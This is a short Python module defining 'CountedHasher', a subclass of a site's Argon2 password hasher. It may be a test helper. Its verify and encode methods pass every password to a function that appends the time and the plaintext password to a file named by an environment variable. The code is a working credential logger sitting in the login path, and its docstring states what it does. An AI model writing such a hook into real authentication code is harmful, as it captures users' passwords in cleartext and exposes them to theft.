"""The site's hasher, which writes down every password it is asked about.

A line of the file that HASHES_FILE names is the time and the password.
"""

from __future__ import annotations

import os
import time

from accounts.backends import SwiftArgon2Hasher


class CountedHasher(SwiftArgon2Hasher):
    def verify(self, password: str, encoded: str) -> bool:
        note(password)
        return bool(super().verify(password, encoded))

    def encode(self, password: str, salt: str) -> str:
        note(password)
        return str(super().encode(password, salt))


def note(password: str) -> None:
    line = f"{time.time()} {password}\n".encode()
    file = os.open(os.environ["HASHES_FILE"], os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o600)
    try:
        os.write(file, line)
    finally:
        os.close(file)
